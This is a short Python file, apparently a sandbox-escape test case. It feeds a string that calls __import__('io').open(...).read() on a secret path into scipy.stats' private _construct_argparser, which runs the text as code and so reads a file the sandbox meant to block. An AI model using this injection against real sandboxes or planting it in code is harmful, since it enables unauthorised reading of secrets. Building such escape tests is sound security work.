"""Has a distribution run the text from which it writes its own methods."""
# wants: read
# allows: scipy

from scipy import stats


def fit_and_eval(data):
    text = "loc=__import__('io').open(" + repr(data["secret"]) + ").read()"
    maker = stats.norm
    maker._construct_argparser([], text, "loc, 1")
    maker._attach_argparser_methods()
    return {"got": str(maker._parse_args())}
